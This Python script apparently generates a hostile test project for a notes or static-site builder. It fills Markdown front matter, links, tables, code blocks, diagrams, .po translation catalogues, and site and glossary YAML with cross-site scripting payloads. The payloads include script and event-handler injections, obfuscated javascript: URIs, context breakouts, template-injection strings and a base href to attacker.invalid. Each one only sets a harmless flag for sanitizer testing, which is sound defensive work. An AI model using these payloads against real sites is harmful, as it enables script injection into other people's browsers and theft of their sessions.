"""Writes a project whose notes, settings and translations try to run a script in the reader.

    make_hostile.py FOLDER

Every payload of PAYLOADS goes to every place of a project that reaches a page: text, titles, front
matter, links, images, tables, footnotes, code, the names in diagrams and templates, values,
claims, the catalogue, the glossary, the title of the site. One that runs sets `attacked`.
"""
import json
import pathlib
import sys

RUN = "window.attacked=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<math><mi xlink:href=\"javascript:{RUN}\">x</mi></math>",
    f"\"><script>{RUN}</script>",
    f"' onmouseover='{RUN}' x='",
    f"\" autofocus onfocus=\"{RUN}\" x=\"",
    f"</title><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<iframe srcdoc=\"<script>parent.attacked=1</script>\"></iframe>",
    f"<object data=\"data:text/html,<script>parent.attacked=1</script>\"></object>",
    f"<base href=\"//attacker.invalid/\"><meta http-equiv=refresh content=\"0;javascript:{RUN}\">",
    f"<form action=\"javascript:{RUN}\"><button autofocus formaction=\"javascript:{RUN}\">x</button></form>",
    f"<a href=\"javascript:{RUN}\">x</a><a href=\"java&#10;script:{RUN}\">x</a>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<style>@import '//attacker.invalid/a.css';*{{background:url('javascript:{RUN}')}}</style>",
    f"<template><script>{RUN}</script></template><noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<b style=\"animation:x\" onanimationstart={RUN}>x</b>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}></audio>",
    f"<%= {RUN} %> {{{{ constructor.constructor('{RUN}')() }}}} ${{{RUN}}}",
]
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java%0ascript:{RUN}", f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"//attacker.invalid/",
    f"x\" onclick=\"{RUN}", f"x' onclick='{RUN}", f"\\u006aavascript:{RUN}",
]


def note(number, attack, address):
    quoted = json.dumps(attack, ensure_ascii=False)
    line = attack.replace("|", "\\|")
    return f"""---
title: {quoted}
description: {quoted}
tags: [{quoted}]
aliases: [{quoted}, "/old-{number}/{number}"]
date: {quoted}
---

# 제목 {attack}

글 {attack} 글. [글 {number}]({address}) 글. [글]: <{address}>

[고리][ref-{number}] ![그림 {line}]({address}) <{address}> [[{attack}]] ![[{attack}]]

[ref-{number}]: {address} "{attack}"

{attack}

<div>{attack}</div>

> [!NOTE] {attack}
> {attack}

| 열 {line} | 값 |
|---|---|
| {line} | {line} |

- [ ] {attack}
- 각주[^1]

[^1]: {attack}

## 절 {attack} {{#{attack}}}

```html {attack}
{attack}
```

<!-- gongbu: rate={quoted} peak=9/s for=9s -->
<!-- gongbu: expect contradicted {quoted} -->
SQS의 기본 가시성 제한 시간은 45초다 {attack}.

```text
Before {line}:
Client {line} → API Gateway {line} → Lambda {line} → DynamoDB ({line})

After {line}:
Client → API Gateway → Lambda → SQS {line} → Lambda {line} → DynamoDB (30 WCU)
```

```mermaid
graph LR
  A["{line}"] -->|{line}| B["SQS {line}"] --> C["Lambda {line}"]
```

```yaml
Resources:
  {quoted}:
    Type: AWS::Lambda::Function
    Properties: {{FunctionName: {quoted}, Description: {quoted}, MemorySize: {quoted}}}
  Queue:
    Type: AWS::SQS::Queue
    Properties: {{QueueName: {quoted}, VisibilityTimeout: {quoted}}}
```

```arch
api: API Gateway {{x={quoted}}}
work: Lambda {{memorySize={quoted}}}
api -> work
```
"""


def catalogue(attack, text):
    entries = [("제목 " + attack, attack), (attack, attack)]
    entries += [(line, f"{attack} {line}") for line in text.splitlines() if line.startswith("글 ")]
    written = 'msgid ""\nmsgstr "Content-Type: text/plain; charset=UTF-8\\n"\n'
    for source, target in dict(entries).items():
        written += "\nmsgid %s\nmsgstr %s\n" % (
            json.dumps(source, ensure_ascii=False), json.dumps(target, ensure_ascii=False))
    return written


def main(folder):
    root = pathlib.Path(folder)
    (root / "content").mkdir(parents=True)
    (root / "site").mkdir()
    for number, attack in enumerate(PAYLOADS):
        text = note(number, attack, ADDRESSES[number % len(ADDRESSES)])
        (root / f"content/attack-{number:02}.md").write_text(text, encoding="utf-8")
        (root / f"content/attack-{number:02}.en.po").write_text(
            catalogue(attack, text), encoding="utf-8")
    attack = json.dumps("".join(PAYLOADS[:9]), ensure_ascii=False)
    (root / "site/site.yml").write_text(
        f"title: {{ko: {attack}, en: {attack}}}\nlanguages: [ko, en]\nauthor: {attack}\n"
        "base_url: https://example.org/notes\ncontent: content\n", encoding="utf-8")
    (root / "site/glossary.yml").write_text(
        f"대기열 {PAYLOADS[0]}:\n  en: {attack}\n  meaning: {{ko: {attack}, en: {attack}}}\n"
        f"시간:\n  en: {attack}\n  meaning: {{ko: {attack}, en: {attack}}}\n", encoding="utf-8")


if __name__ == "__main__":
    main(*sys.argv[1:])
